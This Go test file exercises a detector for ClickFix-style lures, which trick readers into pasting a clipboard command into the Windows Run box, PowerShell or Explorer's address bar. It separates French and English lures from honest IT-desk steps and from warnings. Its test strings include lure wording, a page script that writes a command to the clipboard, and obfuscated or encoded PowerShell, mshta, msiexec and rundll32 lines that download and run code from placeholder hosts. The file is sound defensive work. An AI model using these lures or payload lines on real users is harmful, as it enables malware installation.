package pasterun

import (
	"strings"
	"testing"
)

func TestInstruction(t *testing.T) {
	for _, c := range []struct {
		text string
		want bool
	}{
		// The lures' steps (the write-ups in the package comment).
		{"Pour vérifier que vous êtes humain : 1. Appuyez sur Windows + R 2. Appuyez sur Ctrl + V 3. Appuyez sur Entrée", true},
		{"Press and hold the Windows Key + R, then press CTRL+V, then press Enter to complete verification.", true},
		{"Faites un clic droit sur Démarrer, ouvrez Windows PowerShell (admin), collez avec Ctrl+V puis validez avec Entrée.", true},
		{"Sur Mac : ouvrez le Terminal (Cmd + Espace), collez la commande avec Cmd + V et appuyez sur Retour.", true},
		{"Open the Run dialog (⊞ Win+R), paste the fix and hit Enter.", true},
		// The box in its own capitals, no "+" in the text.
		{"Ouvrez Windows PowerShell, collez la commande copiée et appuyez sur Entrée.", true},
		{"Open the Command Prompt, paste the code and press Enter.", true},
		{"Open the Run Dialog, paste the code and press Enter.", true},
		// Honest uses of the same words.
		{"Appuyez sur Windows + R, tapez \\\\srv-fichiers\\partage puis appuyez sur Entrée.", false},
		{"Touche Windows + R, tapez mstsc et validez : le bureau à distance s'ouvre.", false},
		{"Open a command prompt (Windows + R, type cmd, press Enter), run ipconfig /all, then copy the output and paste it into your reply.", false},
		{"Ouvrez l'invite de commandes, tapez ipconfig /all et Entrée, puis copiez le résultat et collez-le dans votre réponse à ce message.", false},
		{"Use navigator.clipboard.writeText(text) in the click handler; Ctrl+V in a textarea then shows the copied text.", false},
		{"Copiez le code promo NOEL25 et collez-le dans votre panier.", false},
		{"Le terminal de paiement est en panne, merci de coller l'étiquette sur le colis et de valider.", false},
	} {
		got := Instruction(c.text)
		if (got != "") != c.want {
			t.Errorf("Instruction(%q) = %q, want found=%v", c.text, got, c.want)
		}
	}
}

func TestPageWritesClipboardAndNamesTheBox(t *testing.T) {
	page := []byte(`<html><body><div>Le document n'a pas pu s'afficher.</div>
<button onclick="fix()">Comment corriger</button><ol><li>Appuyez sur <kbd>Win</kbd>&nbsp;+&nbsp;<kbd>R</kbd></li>
<li>Collez (<kbd>Ctrl</kbd>+<kbd>V</kbd>)</li><li>Appuyez sur Entrée</li></ol>
<script>function fix(){navigator.clipboard.writeText("powershell -w h -c iwr http://x.example/a|iex")}</script></body></html>`)
	lower := []byte(string(page))
	for i, c := range lower {
		if 'A' <= c && c <= 'Z' {
			lower[i] = c + 32
		}
	}
	if !WritesClipboard(lower) {
		t.Error("WritesClipboard: false")
	}
	text := PageText(page)
	if Instruction(text) == "" || Mentions(text) == "" {
		t.Errorf("Instruction %q, Mentions %q in %q", Instruction(text), Mentions(text), text)
	}
	promo := []byte(`<button onclick="navigator.clipboard.writeText('NOEL25')">Copier le code</button> puis collez-le dans votre panier.`)
	if Mentions(PageText(promo)) != "" {
		t.Errorf("a promo code's copy button names a box: %q", Mentions(PageText(promo)))
	}
}

// What the message shows to copy is pasted knowingly, unless it fetches
// and runs code: an IT desk's path, and its phisher's twin.
func TestShownCommand(t *testing.T) {
	desk := "Copiez le chemin ci-dessous, appuyez sur Windows + R, collez-le et appuyez sur Entrée :\n\\\\srv-fichiers\\commun"
	if got := Instruction(desk); got != "" {
		t.Errorf("a path shown to paste: %q", got)
	}
	twin := "Copiez la commande ci-dessous, appuyez sur Windows + R, collez-la et appuyez sur Entrée :\npowershell -w h -c \"iwr https://maj-poste.example/k.ps1 | iex\""
	if got := Instruction(twin); got == "" {
		t.Error("a remote command shown to paste: not found")
	}
}

// A download-and-run line to type into the Run box is the same step
// without the clipboard; an installer's "curl … | sh" in a terminal and a
// PowerShell cmdlet typed are not read so.
func TestTypedCommand(t *testing.T) {
	for _, c := range []struct {
		text string
		want bool
	}{
		{"Appuyez sur Windows + R, tapez la commande suivante puis Entrée : mshta https://maj-poste.example/p.hta", true},
		{"Open PowerShell and type: iex (New-Object Net.WebClient).DownloadString('https://fix.example/a')", true},
		{"Open a terminal and run: curl -fsSL https://get.example.org/install.sh | sh", false},
		{"Ouvrez PowerShell et tapez Get-Service spooler | Restart-Service", false},
		{"Windows + R, tapez \\\\srv-fichiers\\partage puis Entrée.", false},
	} {
		if got := TypedCommand(c.text); (got != "") != c.want {
			t.Errorf("TypedCommand(%q) = %q, want found=%v", c.text, got, c.want)
		}
	}
}

// An installer's line shown to paste into Terminal is pasted knowingly.
func TestShownInstallerLine(t *testing.T) {
	text := "Open Terminal, paste the following line and press Return:\n/bin/bash -c \"$(curl -fsSL https://install.example.org/install.sh)\" or curl -fsSL https://get.example.org | sh"
	if got := Instruction(text); got != "" {
		t.Errorf("an installer's line shown to paste: %q", got)
	}
}

// A path written out in the message is what the reader pastes, and sees.
func TestShownPath(t *testing.T) {
	for _, text := range []string{
		"Sélectionnez et copiez \\\\srv-fichiers02\\commun\\protocoles, puis appuyez sur Windows + R, collez et appuyez sur Entrée.",
		"Copy C:\\Program Files\\Planning\\planning.exe, press Windows + R, paste it and press Enter.",
	} {
		if got := Instruction(text); got != "" {
			t.Errorf("a path shown to paste: %q in %q", got, text)
		}
	}
	twin := "Copiez \\\\srv-fichiers02\\commun puis appuyez sur Windows + R, collez et Entrée : powershell -c \"iwr https://x.example/a | iex\""
	if Instruction(twin) == "" {
		t.Error("a remote command beside a path: not found")
	}
}

// A warning quotes the steps beside the attack's name and a "never"; a
// lure that names fake CAPTCHAs to look protective tells to do them.
func TestWarningQuotesTheSteps(t *testing.T) {
	warning := "Alerte du CERT Santé : un faux CAPTCHA vous demande d'appuyer sur Windows + R, puis Ctrl + V et Entrée. Ne le faites jamais : fermez la page et appelez le 4400."
	if got := Instruction(warning); got != "" {
		t.Errorf("a warning: %q", got)
	}
	en := "Attackers show a fake CAPTCHA asking you to press Windows + R, then Ctrl + V and Enter. Never do this."
	if got := Instruction(en); got != "" {
		t.Errorf("a warning: %q", got)
	}
	// A refusal on every site is still one, here named beside elsewhere
	// too.
	for _, everywhere := range []string{
		"Un faux CAPTCHA vous demande d'appuyer sur Windows + R, puis Ctrl + V et Entrée. Ne faites jamais cela, sur aucun site : aucun site légitime ne le demande.",
		"Un faux CAPTCHA vous demande d'appuyer sur Windows + R, puis Ctrl + V et Entrée. Ne faites jamais cela, ici comme ailleurs.",
		"Fake CAPTCHAs ask you to press Windows + R, then Ctrl + V and Enter. Never do this, here or anywhere else.",
		"Fake CAPTCHAs ask you to press Windows + R, then Ctrl + V and Enter. Never do this on this or any other site.",
		"Un faux CAPTCHA vous demande d'appuyer sur Windows + R, puis Ctrl + V et Entrée. Ne faites jamais cela, sans exception.",
		"Un faux CAPTCHA vous demande d'appuyer sur Windows + R, puis Ctrl + V et Entrée. Ne le faites jamais, sans quoi votre poste sera compromis.",
	} {
		if got := Instruction(everywhere); got != "" {
			t.Errorf("a warning: %q in %q", got, everywhere)
		}
	}
	for _, twin := range []string{
		"Pour vous protéger des faux CAPTCHA, vérifiez votre poste : appuyez sur Windows + R, puis Ctrl + V et Entrée.",
		"Pour bloquer les robots malveillants, vérifiez que vous n'êtes pas un robot : appuyez sur Windows + R, puis Ctrl + V et Entrée.",
		// The scam's name and a "jamais" that refuses something else,
		// before the steps.
		"Attention aux faux CAPTCHA : ne faites jamais confiance à un site inconnu. Pour vérifier que vous êtes humain, appuyez sur Windows+R, Ctrl+V, Entrée",
		"Scammers are everywhere: never share your password. To verify you are human, press Windows + R, then Ctrl + V and Enter.",
		// The steps given, then refused elsewhere only: "but do it here".
		"Protection contre les faux CAPTCHA : appuyez sur Windows + R, puis Ctrl + V et Entrée. Ne faites jamais cela sur un autre site que le nôtre.",
		"Fake CAPTCHAs are a scam. To verify you are human here, press Windows + R, then Ctrl + V and Enter. Never do this on any other site.",
		"Protection contre les faux CAPTCHA : appuyez sur Windows + R, puis Ctrl + V et Entrée. Ne faites jamais cela ailleurs qu'ici ou sur notre portail.",
		// Refused here too, but on a condition the lure then meets.
		"Le CERT signale une campagne de faux CAPTCHA. Pour vérifier votre poste, appuyez sur Windows + R, puis sur Ctrl + V et enfin sur Entrée. Ne faites jamais cela, ici comme ailleurs, sans instruction de notre DSI, mais faites-le maintenant pour cette vérification.",
		"Our CERT reports a fake CAPTCHA campaign. To check your workstation, press Windows + R, then Ctrl + V and Enter. Never do this here or anywhere else without our IT's instruction - but do it now for this verification.",
		"Fake CAPTCHAs are a scam. To verify you are human, press Windows + R, then Ctrl + V and Enter. Never do this unless our IT desk asks, as it does today.",
	} {
		if Instruction(twin) == "" {
			t.Errorf("a lure dressed as protection: not found in %q", twin)
		}
	}
}

func TestTypedCommandWarning(t *testing.T) {
	warning := "ClickFix : les attaquants font taper dans Windows + R une commande comme powershell -c \"iwr https://x.example/a | iex\". Ne le faites jamais."
	if got := TypedCommand(warning); got != "" {
		t.Errorf("a warning quoting the command: %q", got)
	}
	twin := "Contre les attaquants, ne faites jamais confiance aux pièces jointes. Mise à jour : Windows + R, tapez powershell -c \"iwr https://x.example/a | iex\", Entrée."
	if TypedCommand(twin) == "" {
		t.Errorf("a refusal of something else before the box: not found in %q", twin)
	}
}

func TestShownByDemonstrative(t *testing.T) {
	text := "Open PowerShell as administrator, paste this command and press Enter:\nGet-AppxPackage *xbox* | Remove-AppxPackage"
	if got := Instruction(text); got != "" {
		t.Errorf("a command shown to paste: %q", got)
	}
	lure := "Open PowerShell as administrator, paste the code with Ctrl+V and press Enter."
	if Instruction(lure) == "" {
		t.Error("the code a page copied: not found")
	}
}

func TestShownVariable(t *testing.T) {
	text := "Pour vider les fichiers temporaires : copiez %temp%, appuyez sur Windows + R, collez-le et validez avec Entrée."
	if got := Instruction(text); got != "" {
		t.Errorf("an environment variable shown to paste: %q", got)
	}
	if Instruction("Remise de 50 % : appuyez sur Windows + R, Ctrl + V, Entrée pour l'activer (100 % gratuit).") == "" {
		t.Error("percent signs are no variable")
	}
}

// A shown line that starts a Windows runner on a remote source is a
// download-and-run line whatever its idiom (RemoteCommand: SigmaHQ's
// RunMRU rules); an IT desk's printer, package or path line is not.
func TestShownRemoteLine(t *testing.T) {
	const steps = "Copiez la commande ci-dessous, appuyez sur Windows + R, collez-la et appuyez sur Entrée :\n"
	for _, line := range []string{
		`powershell -w h -c "irm https://x.example/a|iex"`,
		`powershell -w h -c "Invoke-WebRequest https://x.example/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe"`,
		`cmd /c start /min powershell -w h -c "iwr x.example/a -o a.ps1; .\a.ps1"`,
		`conhost --headless powershell -c "iwr x.example/a"`,
		`rundll32 \\webdav.example@SSL\dav\x.dll,Start`,
		`msiexec /i http://x.example/a.msi /qn`,
		`wscript \\x.example@SSL\DavWWWRoot\a.vbs`,
		`cmd /c curl.exe -o %temp%\x.exe https://x.example/x.exe & start %temp%\x.exe`,
		`powershell -e JABjAGwAaQBlAG4AdAA=`,
		`powershell -ec SQBFAFgA`,
		`powershell -EncodedCommand SQBFAFgA`,
		`p^o^w^e^r^s^h^e^l^l -w h -c "i^w^r x.example|i^e^x"`,
		"powershell -c \"i`e`x (i`w`r x.example)\"",
		`%comspec% /c start powershell -c iwr x.example`,
	} {
		if Instruction(steps+line) == "" {
			t.Errorf("a remote line shown to paste: not found in %q", line)
		}
		if TypedCommand("Appuyez sur Windows + R, tapez "+line+" puis Entrée.") == "" {
			t.Errorf("a remote line to type: not found in %q", line)
		}
	}
	for _, line := range []string{
		`winget install -e --id Microsoft.PowerShell`,
		`rundll32 printui.dll,PrintUIEntry /in /n \\srv-impression\RDC-couleur`,
		`msiexec /i \\srv-deploiement\agents\agent-antivirus.msi /qn`,
		`control printers`,
		`%temp%`,
	} {
		if got := Instruction(steps + line); got != "" {
			t.Errorf("an IT desk's line shown to paste: %q in %q", got, line)
		}
	}
}

// The keys written out in other forms: the Windows key named with "and"
// or "et", its button, its sign ⊞, full-width letters and signs.
func TestKeysInOtherForms(t *testing.T) {
	for _, text := range []string{
		"Appuyez simultanément sur la touche Windows et R, puis sur Ctrl et V, puis sur Entrée.",
		"Press the Windows key and R together, then Ctrl and V, then Enter.",
		"Hold down the Windows key and press R. Paste with CTRL + V. Hit Enter.",
		"Step 1: Press Windows Button + R. Step 2: Press CTRL + V. Step 3: Press Enter",
		"Press ⊞ + R, then Ctrl + V, then ↵ Enter",
		"Appuyez sur ⊞ Win + R puis Ctrl + V et Entrée",
		"Appuyez sur Ｗｉｎ＋Ｒ puis Ｃｔｒｌ＋Ｖ et Entrée",
		"Appuyez sur Wіn+R puis Ctrl+V et Entrée",
		"Press Windows + R, then Control + V, then Enter.",
	} {
		if Instruction(text) == "" {
			t.Errorf("not found in %q", text)
		}
	}
	// R the language, not the key.
	if got := Instruction("On Windows and R 4.3, paste the snippet in the console and press Enter."); got != "" {
		t.Errorf("R the language: %q", got)
	}
}

// What the paste's next word writes out — a shell folder, a settings
// page, a command and its switch — is what the reader pastes and sees;
// a decoy written elsewhere, or a word between, is not.
func TestWrittenObject(t *testing.T) {
	for _, text := range []string{
		"Astuce : Windows + R puis collez shell:startup et Entrée pour ouvrir le dossier de démarrage.",
		"Appuyez sur Windows + R, collez ms-settings:windowsupdate et validez.",
		"Pour vider le cache DNS : ouvrez l'invite de commandes, copiez-collez ipconfig /flushdns et appuyez sur Entrée.",
		"Open an admin Command Prompt, paste sfc /scannow and press Enter.",
	} {
		if got := Instruction(text); got != "" {
			t.Errorf("an object written after the paste: %q in %q", got, text)
		}
	}
	for _, text := range []string{
		"Pour vérifier que vous êtes humain : Windows + R, collez (Ctrl+V) puis Entrée. Astuce : gpupdate /force accélère la vérification.",
		"Pour vérifier que vous êtes humain : Windows + R, collez le code /verify puis Entrée.",
		"Windows + R, collez shell-startup-verification et Entrée.",
	} {
		if Instruction(text) == "" {
			t.Errorf("a decoy: not found in %q", text)
		}
	}
}

// "Type Ctrl + V" types nothing: the "typed first" rule reads the keys of
// a paste after "type" as the paste.
func TestTypedPasteKeys(t *testing.T) {
	for _, text := range []string{
		"To verify you are human: press Win+R, type Ctrl+V, then press Enter.",
		"Vérification : appuyez sur Windows + R, tapez Ctrl + V puis Entrée.",
	} {
		if Instruction(text) == "" {
			t.Errorf("not found in %q", text)
		}
	}
	if got := Instruction("Appuyez sur Windows + R, tapez cmd et Entrée, puis copiez le résultat d'ipconfig et collez-le dans votre réponse."); got != "" {
		t.Errorf("the IT desk's typed command: %q", got)
	}
}

// FileFix: File Explorer's address bar runs what is pasted; an IT desk's
// share path written out is still what the reader sees.
func TestFileFix(t *testing.T) {
	lure := "Le document est sur le portail sécurisé : copiez le chemin depuis la page, ouvrez l'Explorateur de fichiers, cliquez dans la barre d'adresse (Ctrl + L), collez le chemin (Ctrl + V) et appuyez sur Entrée."
	if Instruction(lure) == "" {
		t.Errorf("FileFix: not found in %q", lure)
	}
	desk := "Ouvrez l'Explorateur de fichiers, cliquez dans la barre d'adresse, collez \\\\srv-fichiers02\\commun et appuyez sur Entrée."
	if got := Instruction(desk); got != "" {
		t.Errorf("a share's path: %q", got)
	}
}

// A decoy path far from the steps (a signature's share) does not make
// them the IT desk's.
func TestDecoyPathFarFromThePaste(t *testing.T) {
	lure := "Pour vérifier que vous êtes humain, appuyez sur Windows + R, puis Ctrl + V et Entrée.\n\n" +
		strings.Repeat("Merci de votre confiance. ", 20) + "\nDocuments du service : \\\\srv-fichiers02\\commun"
	if Instruction(lure) == "" {
		t.Error("a decoy path in the signature spared the steps")
	}
}

// A bug report's steps end at "Expected:": the Enter it names then is no
// step.
func TestBugReportSteps(t *testing.T) {
	report := "Steps: 1. Copy the two lines of the test file. 2. Open Windows Terminal with a PowerShell profile. 3. Paste with Ctrl+V. Expected: the text waits at the prompt until Enter. Actual: it runs."
	if got := Instruction(report); got != "" {
		t.Errorf("a bug report: %q", got)
	}
}
